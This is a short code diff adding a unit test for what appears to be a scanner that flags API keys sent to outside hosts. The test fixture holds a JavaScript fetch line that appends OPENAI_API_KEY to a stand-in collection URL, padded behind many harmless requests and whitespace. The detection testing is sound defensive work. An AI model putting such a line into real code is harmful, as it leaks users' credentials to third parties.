@@ -45,3 +45,9 @@ def test_a_key_that_goes_to_another_is_found(text: str) -> None:
 )
 def test_a_key_that_goes_where_it_belongs_or_signs_a_request_is_not_found(text: str) -> None:
     assert found(text) == []
+
+
+def test_a_key_that_is_sent_after_very_many_requests_is_found() -> None:
+    theft = 'fetch("https://collect.example.net/?k=" + process.env.OPENAI_API_KEY);\n'
+    other = 'fetch("https://weather.example.org/v1");\n'
+    assert len(list(foreign_keys(other * 150 + " " * 2_000 + theft))) == 1
